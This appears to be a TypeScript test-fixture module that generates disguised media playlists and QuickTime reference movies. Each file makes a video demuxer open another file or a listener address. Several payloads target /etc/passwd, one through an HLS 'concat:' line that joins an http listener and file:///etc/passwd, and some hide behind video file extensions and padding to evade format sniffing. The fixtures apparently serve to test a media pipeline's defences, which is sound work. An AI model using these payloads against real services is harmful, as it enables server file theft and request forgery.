/** Texts by which players open a second file or an address: by what they say and by how they are named. */
export interface Pointing {
  readonly name: string;
  readonly content: string | Buffer;
}

/**
 * @param other another video on the same disk
 * @param address of a listener, such as `127.0.0.1:8765`
 */
export function pointingFiles(other: string, address: string): Pointing[] {
  const hls = (target: string, key = '') =>
    `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n${key}#EXTINF:2.0,\n${target}\n#EXT-X-ENDLIST\n`;
  const key = `#EXT-X-KEY:METHOD=AES-128,URI="http://${address}/k",IV=0x00000000000000000000000000000000\n`;
  const dash = (target: string, type = 'static') =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="${type}" mediaPresentationDuration="PT2S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period duration="PT2S"><AdaptationSet mimeType="video/mp4"><Representation id="v" bandwidth="1" width="320" height="256" codecs="avc1.42C00D"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
  const asx = `<ASX version="3.0"><Entry><Ref href="http://${address}/x.wmv"/></Entry></ASX>`;
  const texts: Record<string, string> = {
    'hls-absolute': hls(other),
    'hls-relative': hls('../other.mp4'),
    'hls-address': hls(`http://${address}/a.ts`),
    'hls-key': hls(other, key),
    'hls-system-file': hls('/etc/passwd'),
    'hls-concat': hls(`concat:http://${address}/h.m3u8|file:///etc/passwd`),
    'hls-subfile': hls(`subfile,,start,0,end,100000,,:${other}`),
    'hls-data': hls('data:video/mp4;base64,AAAA'),
    'hls-byte-order-mark': `\ufeff${hls(other)}`,
    'list-absolute': `ffconcat version 1.0\nfile '${other}'\n`,
    'list-relative': 'ffconcat version 1.0\nfile ../other.mp4\n',
    'list-address': `ffconcat version 1.0\nfile http://${address}/c.mp4\n`,
    'dash-file': dash(other),
    'dash-file-address': dash(`file://${other}`),
    'dash-address': dash(`http://${address}/d.mp4`),
    'dash-changing': dash(`http://${address}/e.mp4`, 'dynamic'),
    'session-description':
      'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    'web-page': '<!DOCTYPE html><html><head><title>Login</title></head><body>Please sign in</body></html>\n',
    asx,
    'asx-old': `[Reference]\nRef1=http://${address}/r.wmv\n`,
    pls: `[playlist]\nFile1=http://${address}/p.mp4\n`,
    xspf: `<?xml version="1.0"?><playlist version="1"><trackList><track><location>http://${address}/s.mp4</location></track></trackList></playlist>`,
    smil: `<smil><body><video src="http://${address}/t.mp4"/></body></smil>`,
    'smooth-streaming': `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2" Duration="1"/>`,
    'composition-playlist':
      '<?xml version="1.0"?><CompositionPlaylist xmlns="x"><Id>urn:uuid:1</Id></CompositionPlaylist>',
    'rtsp-text': `RTSPtext\nrtsp://${address}/x\n`,
    'media-link': `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="http://${address}/q.mov"/>`,
    script: `AVISource("${other}")\n`,
    'plain-address': `http://${address}/plain.mp4\n`,
    'wide-text': `\ufeff${hls(`http://${address}/wide.ts`)}`,
  };
  const named = Object.entries(texts).map(([name, text], index) => ({
    name: `${name}.${['mp4', 'ts', 'avi', 'mkv'][index % 4]}`,
    content: name === 'wide-text' ? Buffer.from(text, 'utf16le') : text,
  }));
  const dashes = ['mp4', 'ts', 'avi', 'mkv'].map((ending) => ({
    name: `dash.${ending}`,
    content: dash(`http://${address}/${ending}`),
  }));
  // Past what a look at the first bytes tells: only the lists of demuxers and protocols stand in their way.
  const oldLetters = Buffer.from(
    dash(`http://${address}/f.mp4`).replace(
      '"?>',
      `" encoding="ISO-8859-1"?><!-- ${'\xe9'.repeat(3000)} -->`,
    ),
    'latin1',
  );
  const disguised = [
    { name: 'dash-old-letters.mp4', content: oldLetters },
    { name: 'dash-old-letters.ts', content: oldLetters },
    { name: 'hls-with-noise.ts', content: `${hls(other)}\x01\x02\x03` },
    { name: 'list-with-noise.mkv', content: 'ffconcat version 1.0\nfile good.mp4\n#\x01\n' },
    { name: 'session-with-noise.avi', content: `${texts['session-description']}\x01` },
  ];
  return [...named, ...dashes, ...disguised];
}

/** A QuickTime movie whose one track lies in another file: the reference in it is no longer to itself. */
export function referenceMovie(movie: Buffer, other: string, kind: 'url ' | 'alis'): Buffer {
  const dref = movie.indexOf('dref') - 4;
  const old = movie.readUInt32BE(dref);
  const target = kind === 'url ' ? Buffer.from(`file://${other}\0`) : Buffer.alloc(150, 1);
  const entry = Buffer.alloc(12 + target.length);
  entry.writeUInt32BE(entry.length, 0);
  entry.write(kind, 4, 'latin1');
  target.copy(entry, 12);
  const box = Buffer.concat([movie.subarray(dref, dref + 16), entry]);
  box.writeUInt32BE(box.length, 0);
  const grown = box.length - old;
  const changed = Buffer.concat([movie.subarray(0, dref), box, movie.subarray(dref + old)]);
  for (const type of ['moov', 'trak', 'mdia', 'minf', 'dinf']) {
    const at = changed.indexOf(type) - 4;
    changed.writeUInt32BE(changed.readUInt32BE(at) + grown, at);
  }
  return changed;
}
